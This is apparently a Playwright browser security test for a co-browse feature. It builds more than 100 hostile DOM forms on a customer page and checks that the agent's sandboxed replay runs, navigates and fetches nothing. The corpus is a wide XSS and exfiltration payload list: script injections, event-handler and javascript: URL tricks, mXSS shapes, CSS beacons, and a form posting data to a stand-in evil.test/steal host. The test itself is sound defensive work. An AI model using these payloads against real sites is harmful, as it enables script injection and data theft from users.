"""A hostile customer page against the agent's co-browse view (ADR 0001, security.md §3.D).

The customer's demo page rewrites itself into 100+ hostile DOM forms, built with DOM APIs that
do not run anything on the customer's side (its own CSP blocks inline handlers there). rrweb
records them; the server sanitizes; the agent's replay page rebuilds what is left in an iframe
sandboxed without scripts, under the replay page's CSP. Nothing may execute (sentinel globals,
postMessage, dialogs), navigate, or fetch anything from the agent's browser but our own
expected paths."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, Dialog, Frame, Page, Route, expect

from tests.browser.cobrowse_support import CHECKOUT, mirror, share, sign_in, start_session
from tests.browser.conftest import DESKTOP

if TYPE_CHECKING:
    from tests.browser.conftest import NewPage, PageProblems, Server

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

expect.set_options(timeout=15_000)

EVIL = "http://evil.test"
JS = "top.__pwned=1;parent.__pwned=1;parent.postMessage('pwned','*');alert('pwned')"
XHTML = "http://www.w3.org/1999/xhtml"
SVG = "http://www.w3.org/2000/svg"
MATHML = "http://www.w3.org/1998/Math/MathML"
XLINK = "http://www.w3.org/1999/xlink"

Spec = dict[str, Any]


def el(
    tag: str,
    *attrs: tuple[str, str],
    text: str = "",
    ns: str = XHTML,
    kids: list[Spec] | None = None,
) -> Spec:
    return {"tag": tag, "ns": ns, "attrs": list(attrs), "text": text, "kids": kids or []}


def corpus() -> list[Spec]:
    """One hostile form per entry (>= 100)."""
    forms: list[Spec] = []
    # <script> in every spelling and namespace.
    forms += [
        el("script", text=JS),
        el("SCRIPT", text=JS),
        el("script", ("src", f"{EVIL}/x.js")),
        el("script", ("type", "module"), text=JS),
        el("script", ("src", "/pwned/script.js")),
        el("script", text=JS, ns=SVG),
        el("svg", ns=SVG, kids=[el("script", ("href", f"{EVIL}/svg.js"), ns=SVG)]),
        el("x:script", text=JS),
    ]
    # Inline handlers on elements that fire them by themselves.
    handlers = [
        ("img", "onerror", [("src", "/pwned/missing.png")]),
        ("img", "OnErRoR", [("src", "x:")]),
        ("img", "onload", [("src", "data:image/gif;base64,R0lGODlhAQABAAAAACw=")]),
        ("video", "onerror", [("src", "x:")]),
        ("audio", "onerror", [("src", "x:")]),
        ("input", "onfocus", [("autofocus", "")]),
        ("button", "onfocus", [("autofocus", "")]),
        ("textarea", "onfocus", [("autofocus", "")]),
        ("select", "onfocus", [("autofocus", "")]),
        ("details", "ontoggle", [("open", "")]),
        ("div", "onanimationstart", [("style", "animation: spin 1ms")]),
        ("div", "onanimationend", [("style", "animation: spin 1ms")]),
        ("div", "ontransitionend", [("style", "transition: color 1ms")]),
        ("div", "onmouseover", [("style", "position:fixed;inset:0")]),
        ("div", "onpointerenter", [("style", "position:fixed;inset:0")]),
        ("div", "onscrollend", []),
        ("div", "onbeforetoggle", [("popover", "auto")]),
        ("marquee", "onstart", []),
        ("style", "onload", []),
        ("iframe", "onload", []),
        ("object", "onerror", [("data", "x:")]),
        ("form", "onsubmit", []),
        ("a", "onclick", [("href", "#")]),
        ("body", "onload", []),
        ("dialog", "onclose", [("open", "")]),
        ("input", "oninput", [("value", "x")]),
        ("img", "onerror ", [("src", "x:")]),
        ("frameset", "onload", []),
    ]
    for tag, name, extra in handlers:
        forms.append(el(tag, *extra, (name, JS)))
    forms.append(el("svg", ("onload", JS), ns=SVG))
    forms.append(el("svg", ns=SVG, kids=[el("image", ("href", "x:"), ("onerror", JS), ns=SVG)]))
    forms.append(
        el(
            "svg",
            ns=SVG,
            kids=[el("animate", ("onbegin", JS), ("attributeName", "x"), ("dur", "1s"), ns=SVG)],
        )
    )
    # javascript:, vbscript: and data: URLs in every URL-bearing place.
    urls = [
        f"javascript:{JS}", f" javascript:{JS}", f"JaVaScRiPt:{JS}", f"java\tscript:{JS}",
        f"java&#x09;script:{JS}", f"javascript&colon;{JS}", f"%6Aavascript:{JS}",
        "vbscript:msgbox(1)", f"data:text/html,<script>{JS}</script>",
    ]  # fmt: skip
    for url in urls:
        forms.append(el("a", ("href", url), text="link"))
    forms += [
        el("iframe", ("src", f"javascript:{JS}")),
        el("iframe", ("src", f"data:text/html,<script>{JS}</script>")),
        el("form", ("action", f"javascript:{JS}"), kids=[el("button", text="go")]),
        el("form", kids=[el("button", ("formaction", f"javascript:{JS}"), text="go")]),
        el("map", kids=[el("area", ("href", f"javascript:{JS}"), ("shape", "default"))]),
        el(
            "svg",
            ns=SVG,
            kids=[
                el("a", ("href", f"javascript:{JS}"), ns=SVG, kids=[el("text", text="x", ns=SVG)])
            ],
        ),
        el("math", ("href", f"javascript:{JS}"), ns=MATHML, text="m"),
        el("embed", ("src", f"javascript:{JS}")),
        el("object", ("data", f"javascript:{JS}")),
        el("a", ("href", f"{EVIL}/away"), ("target", "_top"), text="away"),
    ]
    # srcdoc and nested frames, some asking for scripts.
    forms += [
        el("iframe", ("srcdoc", f"<script>{JS}</script>")),
        el("iframe", ("srcdoc", f'<img src=x: onerror="{JS}">')),
        el(
            "iframe",
            ("sandbox", "allow-scripts allow-same-origin allow-top-navigation"),
            ("srcdoc", f"<script>{JS}</script>"),
        ),
        el("iframe", ("src", f"{EVIL}/frame")),
        el("iframe", ("src", "/pwned/frame.html")),
        el("iframe", ("sandbox", "allow-scripts"), ("src", f"{EVIL}/frame2")),
        el("frame", ("src", f"{EVIL}/frame3")),
    ]
    # SVG animation that rewrites links and handlers.
    forms += [
        el(
            "svg",
            ns=SVG,
            kids=[
                el(
                    "a",
                    ns=SVG,
                    kids=[
                        el(
                            "animate",
                            ("attributeName", "href"),
                            ("values", f"javascript:{JS}"),
                            ns=SVG,
                        ),
                        el("text", text="click", ns=SVG),
                    ],
                )
            ],
        ),
        el(
            "svg",
            ns=SVG,
            kids=[
                el(
                    "a",
                    ns=SVG,
                    kids=[el("set", ("attributeName", "href"), ("to", f"javascript:{JS}"), ns=SVG)],
                )
            ],
        ),
        el(
            "svg",
            ns=SVG,
            kids=[
                el(
                    "a",
                    ns=SVG,
                    kids=[
                        el(
                            "animate",
                            ("attributeName", "xlink:href"),
                            ("from", "#"),
                            ("to", f"javascript:{JS}"),
                            ns=SVG,
                        )
                    ],
                )
            ],
        ),
        el("svg", ns=SVG, kids=[el("set", ("attributeName", "onmouseover"), ("to", JS), ns=SVG)]),
        el(
            "svg",
            ns=SVG,
            kids=[
                el(
                    "animate",
                    ("attributeName", "style"),
                    ("values", f"background:url({EVIL}/anim)"),
                    ns=SVG,
                )
            ],
        ),
        el("svg", ns=SVG, kids=[el("image", ("href", f"{EVIL}/svg-image.png"), ns=SVG)]),
        el("svg", ns=SVG, kids=[el("use", ("href", f"{EVIL}/sprite.svg#x"), ns=SVG)]),
        el("svg", ns=SVG, kids=[el("feImage", ("href", f"{EVIL}/fe.png"), ns=SVG)]),
    ]
    # <base>, meta and form targets.
    forms += [
        el("base", ("href", f"{EVIL}/")),
        el("base", ("href", f"javascript:{JS}//")),
        el("meta", ("http-equiv", "set-cookie"), ("content", "pwned=1")),
        el("meta", ("http-equiv", "content-security-policy"), ("content", "script-src *")),
        el(
            "form",
            ("action", f"{EVIL}/steal"),
            ("method", "post"),
            kids=[el("input", ("name", "q"), ("value", "secret")), el("button", text="send")],
        ),
        el("input", ("type", "image"), ("src", f"{EVIL}/input-image.png")),
        el("a", ("href", "#"), ("ping", f"{EVIL}/ping"), text="ping"),
    ]
    # Plugins and other embedders.
    forms += [
        el("object", ("data", f"{EVIL}/x.swf"), ("type", "application/x-shockwave-flash")),
        el("object", ("type", "text/html"), ("data", f"data:text/html,<script>{JS}</script>")),
        el("embed", ("src", f"{EVIL}/x.pdf")),
        el("embed", ("type", "image/svg+xml"), ("src", f'data:image/svg+xml,<svg onload="{JS}"/>')),
        el("applet", ("code", "Pwn.class")),
        el("portal", ("src", f"{EVIL}/portal")),
        el("fencedframe", ("src", f"{EVIL}/fenced")),
    ]
    # CSS and resource beacons.
    css = [
        f"background:url({EVIL}/bg.png)",
        f"background-image:url('{EVIL}/bg2.png')",
        f"background:image-set(url({EVIL}/set.png) 1x)",
        f"cursor:url({EVIL}/cur.png),auto",
        f"list-style-image:url({EVIL}/li.png)",
        f"border-image:url({EVIL}/border.png) 30",
        f"background:u\\72l({EVIL}/escaped.png)",
        f"background:url(/*x*/{EVIL}/comment.png)",
        f"mask-image:url({EVIL}/mask.png)",
        f"content:url({EVIL}/content.png)",
    ]
    for decl in css:
        forms.append(el("div", ("style", decl), text="css"))
    sheets = [
        f"@import url({EVIL}/import.css);",
        f"@import '{EVIL}/import2.css';",
        f"body {{ background: url({EVIL}/sheet.png) }}",
        f"@font-face {{ font-family: pwn; src: url({EVIL}/font.woff) }} p {{ font-family: pwn }}",
        f"input[value^='a'] {{ background: url({EVIL}/exfil-a) }}",
        f"div::after {{ content: attr(data-x) url({EVIL}/attr.png) }}",
        f"@keyframes spin {{ from {{ background: url({EVIL}/kf.png) }} }}",
        f"@media all {{ p {{ background: url({EVIL}/media.png) }} }}",
    ]
    for sheet in sheets:
        forms.append(el("style", text=sheet))
    forms += [
        el("link", ("rel", "stylesheet"), ("href", f"{EVIL}/link.css")),
        el("link", ("rel", "prefetch"), ("href", f"{EVIL}/prefetch")),
        el("link", ("rel", "preload"), ("as", "image"), ("href", f"{EVIL}/preload.png")),
        el("link", ("rel", "dns-prefetch"), ("href", f"{EVIL}/")),
        el("link", ("rel", "import"), ("href", f"{EVIL}/import.html")),
        el("link", ("rel", "icon"), ("href", f"{EVIL}/icon.png")),
        el("img", ("src", f"{EVIL}/img.png")),
        el("img", ("srcset", f"{EVIL}/srcset.png 1x, {EVIL}/srcset2.png 2x")),
        el(
            "picture",
            kids=[el("source", ("srcset", f"{EVIL}/source.png")), el("img", ("src", "x:"))],
        ),
        el("video", ("poster", f"{EVIL}/poster.png")),
        el("audio", ("src", f"{EVIL}/audio.mp3"), ("autoplay", "")),
        el("video", kids=[el("track", ("src", f"{EVIL}/track.vtt"), ("default", ""))]),
        el(
            "table", ("background", f"{EVIL}/table.png"), kids=[el("tr", kids=[el("td", text="t")])]
        ),
        el("img", ("src", "/pwned/same-origin.png")),
    ]
    # Parser-differential and mXSS shapes.
    forms += [
        el("noscript", kids=[el("img", ("src", "x:"), ("onerror", JS))]),
        el("template", kids=[el("script", text=JS)]),
        el(
            "math",
            ns=MATHML,
            kids=[
                el(
                    "mtext",
                    ns=MATHML,
                    kids=[
                        el(
                            "table",
                            kids=[
                                el(
                                    "mglyph",
                                    ns=MATHML,
                                    kids=[el("style", text="<img src=x: onerror=1>")],
                                )
                            ],
                        )
                    ],
                )
            ],
        ),
        el("style", text=f'</style><img src=x: onerror="{JS}">'),
        el("textarea", text=f"</textarea><script>{JS}</script>"),
        el("title", text=f"</title><script>{JS}</script>"),
        el("xmp", text=f"<script>{JS}</script>"),
        el("div", ("data-x", f'"><script>{JS}</script>'), text="attr"),
        el("a", ("href", "https://example.org/ok"), ("target", "_blank"), text="fine link"),
    ]
    return forms


BUILD = """([forms, attach]) => {
  const make = (spec) => {
    const node = document.createElementNS(spec.ns, spec.tag);
    for (const [name, value] of spec.attrs) {
      try {
        if (name.startsWith('xlink:')) node.setAttributeNS('XLINK_NS', name, value);
        else node.setAttribute(name, value);
      } catch (e) { /* a name the DOM refuses */ }
    }
    if (spec.text) node.textContent = spec.text;
    for (const kid of spec.kids) node.append(make(kid));
    return node;
  };
  let box = document.getElementById('hostile');
  if (!box) {
    box = document.createElement('section');
    box.id = 'hostile';
    document.querySelector('main').append(box);
  }
  for (const spec of forms) {
    const holder = document.createElement('div');
    holder.className = 'hostile-form';
    holder.append(make(spec));
    box.append(holder);
  }
  return box.querySelectorAll('.hostile-form').length;
}""".replace("XLINK_NS", XLINK)

# Attribute mutations on elements that were harmless when first recorded.
MUTATE = """(js) => {
  const box = document.getElementById('hostile');
  const a = document.createElement('a'); a.textContent = 'later'; box.append(a);
  const img = document.createElement('img'); box.append(img);
  const frame = document.createElement('iframe'); box.append(frame);
  const div = document.createElement('div'); box.append(div);
  setTimeout(() => {
    a.setAttribute('href', 'javascript:' + js);
    img.setAttribute('onerror', js); img.setAttribute('src', 'x:');
    frame.setAttribute('srcdoc', '<script>' + js + '</scr' + 'ipt>');
    div.setAttribute('style', 'background:url(http://evil.test/mutated.png)');
    div.setAttribute('onclick', js);
  }, 100);
}"""

# The refresh comes last: it would take the customer's own page away (after 1 s).
REFRESH = """() => {
  const meta = document.createElement('meta');
  meta.setAttribute('http-equiv', 'refresh');
  meta.setAttribute('content', '1;url=http://evil.test/refreshed');
  document.getElementById('hostile').append(meta);
  const meta2 = document.createElement('meta');
  meta2.setAttribute('http-equiv', 'refresh');
  meta2.setAttribute('content', '1;url=javascript:top.__pwned=1');
  document.getElementById('hostile').append(meta2);
}"""

# The asset route is where the sanitizer points every resource URL of the mirrored page.
# Resource URLs in the mirror that are neither inert, inline nor on our asset route.
MIRROR_URLS = """() => {
  const ok = (v) => /^(about:invalid|about:blank|data:image\\/|#|\\/cobrowse\\/assets\\/)/.test(v.trim());
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName;
    const names = ['src', 'poster', 'background'];
    if (['link', 'image', 'use', 'feImage'].includes(tag)) names.push('href', 'xlink:href');
    for (const name of names) {
      const v = el.getAttribute(name);
      if (v && !ok(v)) bad.push(`${tag} ${name}=${v}`);
    }
    for (const name of ['srcset', 'imagesrcset']) {
      const v = el.getAttribute(name);
      for (const c of (v || '').split(',')) if (c.trim() && !ok(c.trim().split(/\\s+/)[0])) bad.push(`${tag} ${name}=${c}`);
    }
  }
  return bad;
}"""

EXPECTED_PATHS = (
    "/console/",
    "/socket.io/",
    "/api/",
    "/favicon.svg",
    "/demo/assets/",
    "/cobrowse/assets/",
)


async def test_hostile_page_cannot_reach_the_agent(
    browser: Browser, new_page: NewPage, server: Server, problems: PageProblems, screenshots: Path
) -> None:
    forms = corpus()
    assert len(forms) >= 100, len(forms)

    # The agent, with everything watched.
    agent = await sign_in(new_page, server)
    requests: list[str] = []
    unexpected: list[str] = []
    dialogs: list[str] = []
    navigations: list[str] = []

    async def guard(route: Route) -> None:
        url = route.request.url
        requests.append(url)
        parts = urlsplit(url)
        ours = f"{parts.scheme}://{parts.netloc}" == server.url
        if ours and parts.path.startswith(EXPECTED_PATHS) and "pwned" not in parts.path:
            await route.continue_()
        else:
            unexpected.append(url)
            await route.abort()

    await agent.context.route("**/*", guard)

    async def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    def on_popup(popup: Page) -> None:
        navigations.append(f"popup {popup.url}")

    def on_navigated(frame: Frame) -> None:
        navigations.append(frame.url)

    agent.on("dialog", on_dialog)
    agent.on("popup", on_popup)
    agent.on("framenavigated", on_navigated)
    await agent.add_init_script(
        "addEventListener('message', (e) => { if (String(e.data).includes('pwned')) window.__pwnedMessage = 1; });"
    )
    await agent.reload()
    await expect(agent.locator(".conn")).to_have_text("Online")

    # The customer: its own context, without the CSP-violation check (its page's CSP refusing
    # the payloads is expected) and with the attacker's host unreachable.
    context = await browser.new_context(viewport=DESKTOP)
    await context.route(
        re.compile(r"^https?://evil\.test/"),
        lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html"),
    )
    customer = await context.new_page()
    try:
        ticket_id = await start_session(agent, customer, server, CHECKOUT, "Hostile page")
        half = len(forms) // 2
        built = await customer.evaluate(BUILD, [forms[:half], True])
        assert built == half
        await share(agent, customer)  # the first half arrives in the full snapshot
        view = mirror(agent)
        await expect(view.locator("#hostile .hostile-form")).to_have_count(half)
        navigations.clear()
        built = await customer.evaluate(BUILD, [forms[half:], True])  # the rest as mutations
        assert built == len(forms)
        await customer.evaluate(MUTATE, "top.__pwned=1;alert('pwned')")
        await expect(view.locator("#hostile .hostile-form")).to_have_count(len(forms))
        await asyncio.sleep(2)  # animations, transitions, handlers, the mutated attributes
        # The refresh is live on the customer's page (it leaves after 1 s); the recorder drops
        # <meta http-equiv> (slimDOM), so it never reaches the agent at all.
        await customer.evaluate(REFRESH)
        await expect(customer).to_have_url(f"{EVIL}/refreshed", timeout=5000)
        await asyncio.sleep(2)
        assert await view.locator("meta[http-equiv]").count() == 0
        await agent.screenshot(path=screenshots / "cobrowse-hostile-agent.png")
    finally:
        await context.close()

    frames = {f.url: f for f in agent.frames}
    replay = next(f for url, f in frames.items() if url.endswith("/console/replay.html"))
    for frame in (agent.main_frame, replay):
        assert await frame.evaluate("window.__pwned") is None, frame.url
        assert await frame.evaluate("window.__pwnedMessage") is None, frame.url
    # The mirror frame is sandboxed without scripts (evaluate runs as the devtools, not the page).
    mirror_frame = replay.child_frames[0]
    sandbox = await replay.evaluate(
        "document.querySelector('#stage iframe').getAttribute('sandbox')"
    )
    assert sandbox == "allow-same-origin"
    assert await mirror_frame.evaluate("window.__pwned") is None
    assert dialogs == []
    assert [u for u in navigations if not u.startswith(("about:", f"{server.url}/console/"))] == []
    assert [u for u in requests if "evil.test" in u or "pwned" in u] == []
    # Every resource URL left in the mirror is inert, inline, or on Tandem's asset route.
    assert await mirror_frame.evaluate(MIRROR_URLS) == []
    assert any(urlsplit(u).path.startswith("/cobrowse/assets/") for u in requests)
    assert unexpected == []
    assert ticket_id
    # CSP reports on the agent's side are the policy doing its job; nothing else may fail there.
    problems.csp.clear()
